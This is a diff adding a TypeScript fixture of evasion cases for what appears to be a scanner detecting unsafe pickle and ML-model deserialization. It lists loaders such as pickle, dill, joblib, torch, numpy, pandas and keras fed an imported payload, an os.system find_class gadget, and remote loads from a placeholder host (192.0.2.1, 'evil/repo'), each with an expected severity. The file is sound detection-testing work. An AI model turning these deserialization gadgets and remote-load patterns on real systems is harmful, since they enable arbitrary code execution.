@@ -1,0 +1,82 @@
+import { EVIL } from '../build.ts';
+import type { Evasion } from './evasion.ts';
+import { bytes, call, tuple } from './program.ts';
+
+/** More data loaded. */
+export const LOADS: readonly Evasion[] = [
+  ['pickle.loads', call('pickle:loads', bytes(`${EVIL}.`)), 'critical', 'os.system("exit 7")'],
+  ['_pickle.loads', call('_pickle:loads', bytes(`${EVIL}.`)), 'critical', 'os.system("exit 7")'],
+  ['pickle._loads', call('pickle:_loads', bytes(`${EVIL}.`)), 'critical', 'os.system("exit 7")'],
+  ['pickle5', call('pickle5:loads', bytes(`${EVIL}.`)), 'critical', 'os.system("exit 7")'],
+  [
+    'Unpickler.find_class',
+    call(
+      call('pickle:Unpickler.find_class', call('pickle:Unpickler', call('io:BytesIO', bytes(''))), 'os', 'system'),
+      'id',
+    ),
+    'high',
+    'find_class',
+  ],
+  ['pickle.load of a file', call('pickle:load', call('builtins:open', '/tmp/x', 'rb')), 'high', 'pickle.load'],
+  ['dill.loads', call('dill:loads', bytes(`${EVIL}.`)), 'critical', 'os.system("exit 7")'],
+  ['dill._dill.loads', call('dill._dill:loads', bytes(`${EVIL}.`)), 'critical', 'os.system("exit 7")'],
+  ['cloudpickle.loads', call('cloudpickle:loads', bytes(`${EVIL}.`)), 'critical', 'os.system("exit 7")'],
+  ['joblib.load', call('joblib:load', '/tmp/x'), 'high', 'joblib.load'],
+  [
+    'joblib.load of a buffer',
+    call('joblib:load', call('io:BytesIO', bytes(`${EVIL}.`))),
+    'critical',
+    'os.system("exit 7")',
+  ],
+  ['torch.load', call('torch:load', '/tmp/x.pt'), 'high', 'torch.load'],
+  [
+    'torch.load of a buffer',
+    call('torch:load', call('io:BytesIO', bytes(`${EVIL}.`))),
+    'critical',
+    'os.system("exit 7")',
+  ],
+  ['_load_from_bytes', call('torch.storage:_load_from_bytes', bytes(`${EVIL}.`)), 'critical', 'os.system("exit 7")'],
+  ['torch.hub.load', call('torch.hub:load', 'evil/repo', 'model'), 'critical', 'torch.hub.load'],
+  ['torch.hub attribute of torch', call('torch:hub.load', 'evil/repo', 'model'), 'critical', 'torch.hub.load'],
+  ['torch.jit.load', call('torch.jit:load', 'x.pt'), 'high', 'torch.jit.load'],
+  ['torch.export.load', call('torch.export:load', 'x.pt2'), 'high', 'torch.export.load'],
+  ['model_zoo', call('torch.utils.model_zoo:load_url', 'http://192.0.2.1/x'), 'high', 'load_url'],
+  [
+    'numpy.load',
+    call('numpy:load', call('io:BytesIO', bytes(`${EVIL}.`)), null, true),
+    'critical',
+    'os.system("exit 7")',
+  ],
+  ['numpy.lib.format.read_array', call('numpy.lib.format:read_array', 'x'), 'high', 'read_array'],
+  ['pandas.read_pickle', call('pandas:read_pickle', 'http://192.0.2.1/x.pkl'), 'high', 'pandas.read_pickle'],
+  ['pandas.io.pickle', call('pandas.io.pickle:read_pickle', 'x'), 'high', 'read_pickle'],
+  [
+    'pandas pickle_compat',
+    call('pandas.compat.pickle_compat:loads', bytes(`${EVIL}.`)),
+    'critical',
+    'os.system("exit 7")',
+  ],
+  ['shelve.open', call('shelve:open', 'x'), 'high', 'shelve.open'],
+  ['jsonpickle', call('jsonpickle:decode', '{"py/reduce": []}'), 'high', 'jsonpickle.decode'],
+  ['srsly.pickle_loads', call('srsly:pickle_loads', bytes(`${EVIL}.`)), 'critical', 'os.system("exit 7")'],
+  ['keras load_model', call('keras.models:load_model', 'x.keras'), 'high', 'load_model'],
+  ['keras Lambda', call('tensorflow.keras.models:load_model', 'x.h5'), 'high', 'load_model'],
+  ['keras from config', call('keras.utils:func_load', 'x'), 'high', 'func_load'],
+  ['tensorflow saved model', call('tensorflow:saved_model.load', 'x'), 'high', 'saved_model.load'],
+  ['mlflow', call('mlflow.pyfunc:load_model', 'x'), 'high', 'mlflow.pyfunc.load_model'],
+  ['skops', call('skops.io:load', 'x', true), 'high', 'skops.io.load'],
+  ['spacy.load', call('spacy:load', 'evil_model'), 'high', 'spacy.load'],
+  [
+    'torch rpc',
+    call('torch.distributed.rpc.internal:_InternalRPCPickler.deserialize', null, bytes(''), []),
+    'high',
+    'deserialize',
+  ],
+  [
+    'multiprocessing.connection',
+    call('multiprocessing.connection:Client', tuple('192.0.2.1', 80)),
+    'critical',
+    'multiprocessing.connection.Client',
+  ],
+  ['xmlrpc', call('xmlrpc.client:ServerProxy', 'http://192.0.2.1'), 'high', 'xmlrpc.client.ServerProxy'],
+];
